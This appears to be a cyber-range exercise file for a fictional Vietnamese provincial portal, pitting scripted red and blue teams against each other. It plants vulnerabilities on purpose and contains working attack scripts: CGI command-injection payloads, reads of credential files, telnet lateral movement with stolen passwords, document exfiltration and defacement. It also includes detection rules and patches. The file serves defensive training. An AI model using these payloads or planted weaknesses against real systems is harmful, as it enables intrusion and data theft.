-- Provincial e-government portal: a security-level-3 system (Decree
-- 85/2016) of the fictional province of Hòa Bình Xanh. Every blue team gets
-- its own copy of the DMZ and the internal network; the red zone is shared.
-- Language reference: docs/scenario-language.md.

scenario {
  name = "provincial-portal",
  title = "Diễn tập thực chiến: Cổng thông tin điện tử tỉnh Hòa Bình Xanh",
  description = "Tấn công vào cổng dịch vụ công trực tuyến, đánh cắp tài liệu mật "
             .. "và thay đổi giao diện cổng thông tin; đội ứng cứu phải phát hiện, "
             .. "báo cáo và khắc phục.",
  organisation = "Sở Thông tin và Truyền thông tỉnh Hòa Bình Xanh",
  year = 2026,
  security_level = 3,
  duration = "2h",
  seed = 20261121,
  address_pool = "10.64.0.0/10",
  default_policy = "deny",
}

-- Teams --------------------------------------------------------------------
team "white" { role = "white", display_name = "Ban tổ chức diễn tập",
               organisation = "Cục An toàn thông tin" }
team "red1"  { role = "red", display_name = "Đội tấn công", members = 4 }
team "blue1" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Hòa Bình Xanh",
               organisation = "Sở TT&TT Hòa Bình Xanh", members = 5 }
team "blue2" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Sơn Lâm",
               organisation = "Sở TT&TT Sơn Lâm", members = 5 }

-- Networks -------------------------------------------------------------------
network "dmz"      { cidr = "10.10.1.0/24", zone = "per_team",
                     description = "Vùng DMZ: cổng thông tin, dịch vụ công, thư điện tử" }
network "internal" { cidr = "10.10.2.0/24", zone = "per_team",
                     description = "Mạng nội bộ: máy chủ tài liệu, máy quản trị" }
network "red"      { cidr = "172.30.0.0/24", zone = "shared",
                     description = "Internet as seen by the attackers" }

-- Firewall: first match wins, then default_policy (deny).
allow { from = "red", to = "dmz", protocol = "tcp", ports = {80},
        description = "public web: portal and online public services" }
allow { from = "red", to = "mail", protocol = "tcp", ports = {25},
        description = "inbound mail to the relay only" }
allow { from = "dmz", to = "internal", protocol = "tcp", ports = {23},
        description = "legacy remote administration from DMZ servers (the weakness)" }
allow { from = "mail", to = "internal", protocol = "tcp", ports = {25},
        description = "mail relay delivers to internal mailboxes" }
allow { from = "internal", to = "dmz", description = "administrators manage the DMZ" }

-- Nodes ----------------------------------------------------------------------
node "portal" {
  template = "micro", security_level = 3, value = 2,
  role = "Cổng thông tin điện tử tỉnh (public portal)",
  iface { network = "dmz", address = "10.10.1.10" },
  service "http" { port = 80, reachable_from = {"red", "internal"},
                   check = { kind = "http", path = "/", expect = "Cong thong tin" } },
  service "telnet" { port = 23 },
  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
                         credential = "dmz-admin",
                         description = "reused administrator password" },
  account { user = "admin", password = "HoaBinhXanh@2024", admin = true,
            credential = "dmz-admin" },
  file { path = "/www/index.html", source = "files/portal-index.html" },
}

node "dichvucong" {
  template = "micro", security_level = 3, value = 2,
  role = "Cổng dịch vụ công trực tuyến (online public services, CGI)",
  iface { network = "dmz", address = "10.10.1.11" },
  service "http" { port = 80, reachable_from = {"red"},
                   check = { kind = "http", path = "/cgi-bin/ping.cgi?host=127.0.0.1",
                             expect = "PING" } },
  vuln "cgi-cmd-injection" { cwe = "CWE-78", severity = "critical", service = "http", cost = 1,
                             description = "ping.cgi passes host= to sh" },
  vuln "world-readable-secret" { cwe = "CWE-732", severity = "medium", cost = 1,
                                 yields = { credential = "dmz-admin" },
                                 description = "/var/backups/credentials.txt is mode 0644" },
  account { user = "admin", password = "HoaBinhXanh@2024", admin = true,
            credential = "dmz-admin" },
  file { path = "/root/flag.txt", content = "FLAG{dvc-root-7f3a91}", mode = "0600" },
}

node "mail" {
  template = "micro", security_level = 3, value = 1,
  role = "Máy chủ chuyển tiếp thư (SMTP relay)",
  iface { network = "dmz", address = "10.10.1.12" },
  service "smtp" { port = 25, reachable_from = {"red"},
                   check = { kind = "smtp", expect = "220" } },
  vuln "smtp-vrfy-enum" { cwe = "CWE-204", severity = "low", service = "smtp", cost = 3,
                          effect = "information" },
}

node "docs" {
  template = "micro", security_level = 3, value = 3,
  role = "Máy chủ tài liệu (document server, crown jewels)",
  iface { network = "internal", address = "10.10.2.10" },
  service "telnet" { port = 23, reachable_from = {"dmz"} },
  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
                         credential = "dmz-admin",
                         description = "administrator password reused from the DMZ" },
  account { user = "admin", password = "HoaBinhXanh@2024", admin = true,
            credential = "dmz-admin" },
  file { path = "/srv/docs/secret.txt", mode = "0600",
         content = "TÀI LIỆU MẬT - Kế hoạch chuyển đổi số 2026\nFLAG{docs-exfil-52c8e0}\n" },
}

node "admin-ws" {
  template = "micro", security_level = 3, value = 1,
  role = "Máy trạm quản trị (administrator workstation)",
  iface { network = "internal", address = "10.10.2.20" },
  service "telnet" { port = 23 },
  vuln "weak-password" { cwe = "CWE-521", severity = "high", service = "telnet", cost = 2,
                         description = "quantri:123456 is guessed without any credential" },
  account { user = "admin", password = "HoaBinhXanh@2024", admin = true,
            credential = "dmz-admin" },
  account { user = "quantri", password = "123456" },
}

node "attacker" {
  template = "micro", role = "red team jump host",
  iface { network = "red", address = "172.30.0.10" },
}

-- Objectives -------------------------------------------------------------------
objective "steal-doc" { kind = "exfiltrate", node = "docs", path = "/srv/docs/secret.txt",
                        flag = "FLAG{docs-exfil-52c8e0}", points = 100,
                        description = "Get the secret planning document off the docs server" }
objective "root-dvc" { kind = "read_flag", node = "dichvucong", path = "/root/flag.txt",
                       flag = "FLAG{dvc-root-7f3a91}", points = 50 }
objective "deface-portal" { kind = "deface", node = "portal", service = "http", path = "/",
                            points = 60 }
objective "portal-up" { kind = "keep_available", node = "portal", service = "http" }
objective "dvc-up" { kind = "keep_available", node = "dichvucong", service = "http" }
objective "mail-up" { kind = "keep_available", node = "mail", service = "smtp" }

-- Red injects: the attack chain ---------------------------------------------------
-- Every step really crosses the range: requests leave the attacker node (in
-- the shared red zone), pass the team's router and its firewall, and hit the
-- planted weaknesses. Addresses come from ctx.addr(): each team's copy has
-- its own.

local CGI = "/cgi-bin/ping.cgi?host=127.0.0.1;"

-- Runs a shell command on dichvucong through the CGI injection, from the
-- attacker. Returns the page (the command's output follows ping's) or nil.
local function via_cgi(ctx, cmd, timeout)
  local r = ctx.http("dichvucong", CGI .. cmd, { from = "attacker", timeout = timeout or 60 })
  if not r or r.status ~= 200 then return nil end
  return r.body
end

-- A telnet session from dichvucong to another node (lateral movement): logs
-- in with the stolen credentials and runs one command, as an attacker's
-- expect-like loop would: each answer waits for its prompt (login discards
-- what is typed before the password prompt, and a loaded emulated guest may
-- take seconds to show it), and the session ends once the command's end
-- marker comes back. Each wait gives up after 25 s.
local function telnet_cmd(ctx, node, user, pass, cmd)
  -- No '&' or '+' (the CGI splits its query on the one and turns the other
  -- into a space).
  local function wait_for(text)
    return string.format("i=50; until grep -q '%s' $t || [ $i -le 0 ]; do sleep 0.5; "
                         .. "i=$((i-1)); done; ", text)
  end
  return string.format("t=/tmp/.tn$$; (%secho %s; %secho %s; %ssleep 1; echo '%s; echo LF''-END'; "
                       .. "%s) | telnet %s 23 >$t; cat $t; rm -f $t",
                       wait_for("login: "), user, wait_for("assword"), pass, wait_for("[#$] *$"),
                       cmd, wait_for("^LF-END"), ctx.addr(node))
end

local function creds(ctx)
  local c = ctx.get("attacker", "/loot/creds.txt")
  if not c then return nil end
  return c:match("([%w_-]+):(%S+)")
end

inject "recon-web" {
  owner = "red", technique = "T1595.002", target = "dichvucong", at = "00:05:00",
  description = "Scan the public web services for known CGI scripts",
  run = function(ctx)
    local r = ctx.http("dichvucong", "/cgi-bin/ping.cgi?host=127.0.0.1", { from = "attacker" })
    return r ~= nil and r.status == 200
  end,
}

inject "exploit-cgi" {
  owner = "red", technique = "T1190", target = "dichvucong",
  after = { inject = "recon-web", on = "success", delay = "5m" },
  repeats = 3, every = "2m", until_success = true, points = { success = 50, failure = 0 },
  description = "Command injection in ping.cgi: read the root flag",
  run = function(ctx)
    local out = via_cgi(ctx, "cat /root/flag.txt")
    if not out then return false, "the CGI did not answer" end
    return ctx.objective("root-dvc", out), "flag read through ping.cgi"
  end,
}

inject "steal-creds" {
  owner = "red", technique = "T1552.001", target = "dichvucong",
  after = { inject = "exploit-cgi", on = "success", delay = "3m" },
  description = "Read the world-readable credentials backup",
  run = function(ctx)
    local out = via_cgi(ctx, "cat /var/backups/credentials.txt")
    if not out then return false, "the CGI did not answer" end
    local user, pass = out:match("\n([%w_-]+):(%S+)")
    if not user then return false, "no credentials in the backup" end
    ctx.put("attacker", "/loot/creds.txt", user .. ":" .. pass .. "\n")
    return true
  end,
}

inject "lateral-docs" {
  owner = "red", technique = "T1021", target = "docs",
  after = { inject = "steal-creds", on = "success", delay = "10m" },
  repeats = 2, every = "5m", until_success = true, points = 30,
  description = "Log in to the document server over telnet with the reused password",
  run = function(ctx)
    local user, pass = creds(ctx)
    if not user then return false, "no stolen credentials" end
    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "id"), 120)
    return out ~= nil and out:find("uid=0", 1, true) ~= nil, "telnet login as " .. user
  end,
}

inject "exfil-doc" {
  owner = "red", technique = "T1041", target = "docs",
  after = { inject = "lateral-docs", on = "success", delay = "5m" },
  repeats = 2, every = "5m", until_success = true, points = { success = 100 },
  description = "Copy the secret document out over the web channel to the attacker",
  run = function(ctx)
    local user, pass = creds(ctx)
    if not user then return false, "no stolen credentials" end
    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "cat /srv/docs/secret.txt"),
                     120)
    if not out or not out:find("FLAG{", 1, true) then return false, "document not read" end
    ctx.put("attacker", "/loot/secret.txt", out)
    return ctx.objective("steal-doc", { node = "attacker", path = "/loot/secret.txt" })
  end,
}

inject "deface-portal" {
  owner = "red", technique = "T1491.002", target = "portal",
  after = { inject = "steal-creds", on = "success", delay = "20m" },
  points = 60,
  description = "Replace the portal's front page using the reused administrator password",
  run = function(ctx)
    local user, pass = creds(ctx)
    if not user then return false, "no stolen credentials" end
    via_cgi(ctx, telnet_cmd(ctx, "portal", user, pass,
                            "echo HACKED-BY-RED1 > /www/index.html"), 120)
    return ctx.objective("deface-portal")
  end,
}

-- Blue injects: a scripted defender (training runs and the reference
-- behaviour; human blue teams act through `livefire submit` instead).
-- A scripted detection on `node`: polls it by running `cmd` and, once the
-- output holds `seen` (text, or a function of ctx giving it), files `report`
-- on the node, after `delay` when given (the analyst's time).
local function detection(d)
  local function report(ctx)
    ctx.report { node = d.node, technique = d.technique, description = d.report }
  end
  return {
    owner = "blue", technique = d.technique, target = d.node, poll = d.poll,
    description = d.description,
    when = function(ctx)
      local r = ctx.exec(d.node, d.cmd)
      if r == nil then return false end
      local seen = type(d.seen) == "function" and d.seen(ctx) or d.seen
      return r.out:find(seen, 1, true) ~= nil
    end,
    run = function(ctx)
      if d.delay then ctx.after(d.delay, report) else report(ctx) end
      return true
    end,
  }
end

inject "detect-cgi-abuse" (detection {
  node = "dichvucong", technique = "T1190", poll = "1m",
  description = "Watch the CGI log for shell metacharacters",
  cmd = "cat /var/log/cgi.log", seen = "host=127.0.0.1;",
  report = "Command injection attempts against ping.cgi (cgi.log)",
})

inject "detect-lateral" (detection {
  node = "docs", technique = "T1021", poll = "1m",
  description = "Watch the document server for telnet logins from the DMZ",
  cmd = "cat /var/log/telnet.log", seen = function(ctx) return ctx.addr("dichvucong") end,
  report = "Telnet session to docs from the public-service web server", delay = "10m",
})

inject "patch-cgi" {
  owner = "blue", technique = "M1050", target = "dichvucong",
  after = { inject = "detect-cgi-abuse", on = "success", delay = "50m" },
  description = "Disable the vulnerable CGI and remove the credentials backup",
  run = function(ctx)
    local r = ctx.exec("dichvucong",
                       "rm -f /var/backups/credentials.txt && cp /usr/share/lf/cgi/ping-safe.cgi "
                       .. "/www/cgi-bin/ping.cgi")
    return r ~= nil and r.code == 0
  end,
}

inject "restore-portal" {
  owner = "blue", target = "portal", poll = "2m",
  description = "Report a defaced portal at once, restore its page after the investigation",
  when = function(ctx)
    local r = ctx.http("portal", "/")
    return r ~= nil and r.status == 200 and not r.body:find("Cong thong tin", 1, true)
  end,
  run = function(ctx)
    ctx.report { node = "portal", technique = "T1491.002",
                 description = "Portal front page defaced (HACKED-BY-RED1)" }
    ctx.after("10m", function(ctx)
      ctx.put("portal", "/www/index.html",
              "<html><body><h1>Cong thong tin dien tu tinh Hoa Binh Xanh</h1>"
              .. "<p>Trang đang được khôi phục.</p></body></html>\n")
      ctx.log("portal page restored")
    end)
    return true
  end,
}

-- White injects: tasks for every blue team --------------------------------------
inject "press-query" {
  owner = "white", manual = true, response_due = "20m",
  description = "Báo chí hỏi về việc lộ tài liệu mật của tỉnh: gửi báo cáo trong 20 phút "
             .. "(the press asks about a leak: file a report within 20 minutes)",
}

inject "ministry-status" {
  owner = "white", at = "01:30:00", response_due = "30m",
  description = "Bộ TT&TT yêu cầu báo cáo tình hình ứng cứu (status report to the ministry)",
  run = function(ctx)
    ctx.emit { kind = "task", text = "Báo cáo tình hình ứng cứu trong 30 phút" }
    return true
  end,
}

-- Scoring --------------------------------------------------------------------------
scoring {
  weights = { availability = 0.30, red_impact = 0.25, detection = 0.25, reports = 0.15,
              penalties = 0.05 },
  check_interval = "60s",
  sla_threshold = 3,
  ttd_decay = "linear",
  ttd_full_credit = "5m",
  ttd_zero_credit = "60m",
}
